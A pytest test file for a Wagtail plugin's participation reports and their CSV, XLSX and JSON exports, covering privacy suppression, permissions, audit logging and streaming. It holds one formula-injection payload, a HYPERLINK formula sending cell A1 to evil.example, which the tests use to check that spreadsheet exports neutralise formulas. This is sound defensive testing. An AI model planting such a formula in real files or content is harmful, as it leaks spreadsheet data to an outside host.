"""The participation reports and their exports (``wagtail_social_kpi/admin/reports.py``,
``tables.py``, ``exports.py``) on the hand-built dataset (``tests/kpi_dataset.py``, k = 3)."""

from __future__ import annotations

import codecs
import csv
import inspect
import io
import json

import pytest
from django.contrib.auth.models import Group, Permission
from django.http import StreamingHttpResponse
from django.test import RequestFactory, override_settings
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry, Page
from wagtail.users.models import UserProfile

from tests import kpi_dataset
from tests.kpi_dataset import KPI_SETTINGS, R, add_page_views
from tests.polls_admin import body
from tests.utils import add_page, make_user
from wagtail_social_kpi import definitions, population, privacy, tables
from wagtail_social_kpi.admin.reports import report_menu_item
from wagtail_social_kpi.exports import EXPORT_LOG_ACTION, FileExport

pytestmark = pytest.mark.django_db

PAGES = reverse("wagtail_social_kpi_reports:pages")
SECTIONS = reverse("wagtail_social_kpi_reports:sections")
DEPARTMENTS = reverse("wagtail_social_kpi_reports:departments")
PERIODS = reverse("wagtail_social_kpi_reports:periods")
RANGE = {"start": "2026-11-02", "end": "2026-11-29"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FEWER = "fewer than 3"


def grant(user, *codenames):
    """Admin access and the named KPI permissions, through a group (as a site would)."""
    group = Group.objects.create(name=f"KPI {user.username}")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    group.permissions.add(
        *Permission.objects.filter(content_type__app_label="wagtail_social_kpi", codename__in=codenames)
    )
    user.groups.add(group)
    return user


@pytest.fixture
def data(home):
    with override_settings(**KPI_SETTINGS):
        data = kpi_dataset.build(home)
        # A page whose title a spreadsheet would run, and a private section (c1 gets a child).
        data.pages["formula"] = add_page(data.pages["news"], FORMULA, slug="formula")
        data.pages["c1child"] = add_page(data.pages["c1"], "Private child")
        yield data


@pytest.fixture
def viewer(data):
    """A comms person who may see and export the figures, but is no member of the community."""
    return grant(data.people["viewer"], "view_participation", "export_participation")


@pytest.fixture
def member(data):
    return grant(data.people["member"], "view_participation", "export_participation")


def get(client, url, **params):
    return client.get(url, {**RANGE, **params})


def csv_rows(response, delimiter=","):
    data = body(response)
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(body(response))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def json_data(response):
    return json.loads(body(response))


# --- rows: the definitions', protected -----------------------------------------------------


def test_page_rows_are_the_protected_definitions(data, viewer):
    table = tables.page_table(R, viewer)
    expected = privacy.protect_pages(definitions.page_figures(R, viewer, Page.objects.filter(depth__gt=1)))
    rows = list(table.rows())
    assert [row["page_id"] for row in rows] == [figures.page_id for figures in expected]
    n1 = next(row for row in rows if row["title"] == "News one")
    # Views 21 by 7 readers; comments 5 by p1 and p6 (2 people < k = 3): withheld; reactions
    # like 3 (p3 p4 p7), bravo 1 (p5: withheld) and, completing it, like hidden too.
    assert (n1["views"], n1["unique_readers"]) == (21, 7)
    assert privacy.is_suppressed(n1["comments"]) and str(n1["comments"]) == FEWER
    assert n1["reactions"] == 4 and privacy.is_suppressed(n1["reactions_bravo"])
    assert privacy.is_suppressed(n1["reactions_like"])
    # Helpful: yes 2 (p3 p4: withheld), no 1 (p6: withheld): so is the ratio.
    assert privacy.is_suppressed(n1["helpful_yes"]) and privacy.is_suppressed(n1["helpful_percent"])
    n1_figures = next(f for f in expected if f.title == "News one")
    assert n1["views"] == n1_figures.views and n1["comments"] == n1_figures.comments
    assert "Private topic" not in [row["title"] for row in rows]


def test_section_department_and_period_rows(data, viewer):
    sections = {row["title"]: row for row in tables.section_table(R, viewer).rows()}
    # Sections are pages with children the viewer may see: Home, News and HR (c1 is private).
    assert set(sections) == {"Home", "News", "HR"}
    assert (sections["News"]["views"], sections["News"]["unique_readers"]) == (24, 8)
    departments = {row["department"]: row for row in tables.department_table(R).rows()}
    assert list(departments) == ["Everyone", "HR", "Sales", "Tech"]  # by name
    assert (departments["Everyone"]["population"], departments["Everyone"]["readers"]) == (12, 8)
    assert departments["Everyone"]["readers_percent"] == pytest.approx(66.7)
    # HR has 2 people (< k): every cell withheld, as text.
    assert str(departments["HR"]["population"]) == FEWER and str(departments["HR"]["readers"]) == FEWER
    protected = privacy.protect_departments(definitions.by_department(R, population.departments()))
    assert departments["Sales"]["readers"] == protected["Sales"].readers.count == 4
    weeks = list(tables.period_table(R, "week").rows())
    # W4: readers p1 p7 p8, engaged p7 alone (withheld, and so is its share).
    assert [(w["readers"], w["engaged"], w["views"]) for w in weeks[:3]] == [(5, 4, 6), (4, 5, 4), (3, 4, 3)]
    assert weeks[3]["readers"] == 3 and str(weeks[3]["engaged"]) == str(weeks[3]["engaged_percent"]) == FEWER
    protected = privacy.protect_periods(definitions.by_period(R, "week"))
    assert [(w["start"], w["end"], w["readers"]) for w in weeks] == [
        (p.period.start, p.period.end, p.readers) for p in protected
    ]


# --- the screens ------------------------------------------------------------------------------


def test_page_report_screen_shows_rows_and_withheld_cells_as_text(data, viewer, client_for):
    response = get(client_for(viewer), PAGES)
    assert response.status_code == 200
    html = response.content.decode()
    assert "News one" in html and "Training plan" in html and FEWER in html
    assert "Private topic" not in html and "Private child" not in html
    assert f"/pages/{data.pages['c1'].pk}/" not in html


def test_the_section_filter_offers_only_visible_sections(data, viewer, member, client_for):
    client = client_for(viewer)
    html = client.get(PAGES, RANGE).content.decode()
    assert f'value="{data.pages["news"].pk}"' in html and "Private topic" not in html
    # A private section's id answers like a missing one: a form error, nothing about the page.
    hidden = get(client, PAGES, section=data.pages["c1"].pk)
    missing = get(client, PAGES, section=999999)
    assert hidden.status_code == missing.status_code == 200
    assert "Select a valid choice" in hidden.content.decode()
    assert "Private" not in hidden.content.decode()
    assert get(client, PAGES, section=data.pages["c1"].pk, export="csv").status_code == 400
    # A member sees the community's section and its pages.
    member_html = get(client_for(member), PAGES, section=data.pages["c1"].pk).content.decode()
    assert "Private topic" in member_html and "Private child" in member_html


def test_the_section_filter_narrows_the_pages(data, viewer, client_for):
    response = get(client_for(viewer), PAGES, section=data.pages["hr"].pk, export="json")
    assert [row["title"] for row in json_data(response)["rows"]] == ["HR", "Training plan"]


def test_bad_ranges_are_form_errors(data, viewer, client_for):
    client = client_for(viewer)
    backwards = client.get(DEPARTMENTS, {"start": "2026-11-29", "end": "2026-11-02"})
    assert backwards.status_code == 200
    assert "The range cannot start after it ends." in backwards.content.decode()
    assert "Everyone" not in backwards.content.decode()
    not_a_date = client.get(DEPARTMENTS, {"start": "2026-13-45"})
    assert "Enter a valid date." in not_a_date.content.decode()
    export = client.get(DEPARTMENTS, {"start": "2026-11-29", "end": "2026-11-02", "export": "xlsx"})
    assert export.status_code == 400
    assert not ModelLogEntry.objects.filter(action=EXPORT_LOG_ACTION).exists()


def test_the_default_range_is_the_last_four_full_weeks(data, viewer, client_for):
    default = tables.last_full_weeks()
    assert default.days == 28 and default.start.weekday() == 0
    exported = json_data(client_for(viewer).get(PERIODS, {"export": "json"}))
    assert (exported["start"], exported["end"]) == (
        default.start.isoformat(),
        default.end.isoformat(),
    )


def test_department_and_period_screens(data, viewer, client_for):
    client = client_for(viewer)
    html = get(client, DEPARTMENTS).content.decode()
    assert "Everyone" in html and "Sales" in html and FEWER in html
    months = json_data(
        client.get(
            PERIODS, {"start": "2026-10-01", "end": "2026-11-30", "grouping": "month", "export": "json"}
        )
    )
    assert [(m["readers"], m["engaged"]) for m in months["rows"]] == [(4, FEWER), (8, 10)]


# --- permissions and the menu ---------------------------------------------------------------


@pytest.mark.parametrize("url", [PAGES, SECTIONS, DEPARTMENTS, PERIODS])
def test_permissions(data, client_for, url):
    nobody = grant(make_user("nobody"))  # admin access only
    client = client_for(nobody)
    assert get(client, url).status_code == 302
    assert get(client, url, export="csv").status_code == 403
    reader = grant(make_user("reader"), "view_participation")
    client = client_for(reader)
    response = get(client, url)
    assert response.status_code == 200 and "Download CSV" not in response.content.decode()
    for export_format in ("csv", "xlsx", "json"):
        assert get(client, url, export=export_format).status_code == 403
    assert not ModelLogEntry.objects.filter(action=EXPORT_LOG_ACTION).exists()


def test_menu_items_need_the_view_permission(data, viewer):
    request = RequestFactory().get("/admin/")
    request.user = make_user("plain")
    assert not report_menu_item("pages").is_shown(request)
    request.user = viewer
    assert all(report_menu_item(name).is_shown(request) for name in ("pages", "sections", "departments"))


# --- exports ----------------------------------------------------------------------------------


def exported_rows(client, url, export_format, **params):
    """The data rows of an export, as lists of cells, and its headings."""
    response = get(client, url, export=export_format, **params)
    assert response.status_code == 200
    if export_format == "csv":
        rows = csv_rows(response)
        return rows[0], rows[1:]
    if export_format == "xlsx":
        rows = xlsx_rows(response)
        return rows[0], rows[1:]
    exported = json_data(response)
    keys = [column["key"] for column in exported["columns"]]
    return [column["label"] for column in exported["columns"]], [
        [row[k] for k in keys] for row in exported["rows"]
    ]


@pytest.mark.parametrize("export_format", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("url", [PAGES, SECTIONS])
def test_private_pages_are_absent_from_every_export(data, viewer, member, client_for, url, export_format):
    hidden_ids = {data.pages["c1"].pk, data.pages["c1child"].pk}
    _headings, rows = exported_rows(client_for(viewer), url, export_format)
    assert rows
    assert not {str(row[0]) for row in rows} & {str(pk) for pk in hidden_ids}
    assert not [row for row in rows if "Private" in str(row[1])]
    # The section News counts n1 and n2 for the viewer: 24 views (c1's view is left out).
    if url == SECTIONS:
        assert [row[2] for row in rows if row[1] == "News"] == [24 if export_format != "csv" else "24"]
    _headings, member_rows = exported_rows(client_for(member), url, export_format)
    assert {str(pk) for pk in hidden_ids} & {str(row[0]) for row in member_rows}


@pytest.mark.parametrize("export_format", ["csv", "xlsx", "json"])
def test_withheld_cells_are_text_in_every_format(data, viewer, client_for, export_format):
    headings, rows = exported_rows(client_for(viewer), PAGES, export_format)
    n1 = dict(zip(headings, next(row for row in rows if row[1] == "News one"), strict=True))
    assert n1["Comments"] == FEWER and n1["Helpful: yes"] == FEWER and n1["Helpful (%)"] == FEWER
    assert n1["Views"] == (21 if export_format != "csv" else "21")
    headings, rows = exported_rows(client_for(viewer), DEPARTMENTS, export_format)
    hr = dict(zip(headings, next(row for row in rows if row[0] == "HR"), strict=True))
    assert hr["Population"] == hr["Readers"] == hr["Readers (%)"] == FEWER


def test_formula_titles_are_neutralised_in_csv_and_xlsx_and_left_as_they_are_in_json(
    data, viewer, client_for
):
    client = client_for(viewer)
    titles = {
        format_: [row[1] for row in exported_rows(client, PAGES, format_)[1]] for format_ in ("csv", "xlsx")
    }
    assert "'" + FORMULA in titles["csv"] and "'" + FORMULA in titles["xlsx"]
    assert FORMULA not in titles["csv"] and FORMULA not in titles["xlsx"]
    # JSON is data, not a spreadsheet: the title is what it is.
    assert FORMULA in [row[1] for row in exported_rows(client, PAGES, "json")[1]]


def test_every_export_is_in_the_audit_log(data, viewer, client_for):
    client = client_for(viewer)
    for url, export_format in [(PAGES, "csv"), (DEPARTMENTS, "xlsx"), (PERIODS, "json")]:
        body(get(client, url, export=export_format, grouping="month"))
    body(get(client, PAGES, export="csv", section=data.pages["hr"].pk))
    entries = ModelLogEntry.objects.filter(action=EXPORT_LOG_ACTION).order_by("timestamp", "pk")
    assert [entry.data for entry in entries] == [
        {"grouping": "page", "start": "2026-11-02", "end": "2026-11-29", "format": "csv"},
        {"grouping": "department", "start": "2026-11-02", "end": "2026-11-29", "format": "xlsx"},
        {"grouping": "month", "start": "2026-11-02", "end": "2026-11-29", "format": "json"},
        {
            "grouping": "page",
            "start": "2026-11-02",
            "end": "2026-11-29",
            "format": "csv",
            "section": data.pages["hr"].pk,
        },
    ]
    assert {entry.user_id for entry in entries} == {viewer.pk}
    assert "exported" in entries[0].message.lower()


def test_csv_delimiter_by_language_and_by_parameter(data, viewer, client_for):
    client = client_for(viewer)
    assert (
        body(get(client, DEPARTMENTS, export="csv")).decode("utf-8-sig").startswith("Department,Population,")
    )
    semicolons = body(get(client, DEPARTMENTS, export="csv", delimiter=";")).decode("utf-8-sig")
    assert semicolons.startswith("Department;Population;")
    tabs = body(get(client, DEPARTMENTS, export="csv", delimiter="tab")).decode("utf-8-sig")
    assert tabs.startswith("Department\tPopulation\t")
    profile = UserProfile.get_for_user(viewer)
    profile.preferred_language = "fr"
    profile.save()
    french = body(get(client, DEPARTMENTS, export="csv")).decode("utf-8-sig")
    assert french.splitlines()[0].count(";") == len(tables.department_table(R).columns) - 1


# --- streaming: rows are made one at a time -------------------------------------------------


def test_the_csv_streams_rows_made_one_at_a_time(data, viewer, client_for):
    response = get(client_for(viewer), PAGES, export="csv")
    assert isinstance(response, StreamingHttpResponse)
    chunks = list(response.streaming_content)
    rows = list(tables.page_table(R, viewer).rows())
    assert len(chunks) == 1 + len(rows)  # the headings, then one chunk per row
    assert inspect.isgenerator(tables.page_table(R, viewer).rows())
    # The exporter asks for a row only when it writes it.
    made = []
    table = tables.Table("page", R, [("n", "N")], list(range(1000)), lambda n: made.append(n) or {"n": n})
    stream = FileExport(table, ",").stream_csv(table.rows())
    assert next(stream) == codecs.BOM_UTF8 + b"N\r\n" and made == []
    assert next(stream) == b"0\r\n" and made == [0]
    json_stream = FileExport(table).stream_json(table.rows())
    next(json_stream)
    assert len(made) == 1
    assert next(json_stream) == b'{"n": 0}' and len(made) == 2


def test_the_json_and_xlsx_responses_stream(data, viewer, client_for):
    client = client_for(viewer)
    assert isinstance(get(client, PAGES, export="json"), StreamingHttpResponse)
    xlsx = get(client, PAGES, export="xlsx")
    assert xlsx.streaming  # a FileResponse over the workbook written to a temporary file
    assert xlsx_rows(xlsx)[0][:3] == ["Page id", "Page", "Views"]


def test_report_queries_do_not_grow_with_records(data, viewer, client_for):

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = client_for(viewer)

    def count_queries():
        with CaptureQueriesContext(connection) as queries:
            for url in (PAGES, SECTIONS, DEPARTMENTS, PERIODS):
                assert get(client, url).status_code == 200
                body(get(client, url, export="csv"))
        return len(queries)

    count_queries()  # warm up: the session, the viewer's permissions and groups are then known
    before = count_queries()
    add_page_views(data, 60)
    assert count_queries() == before
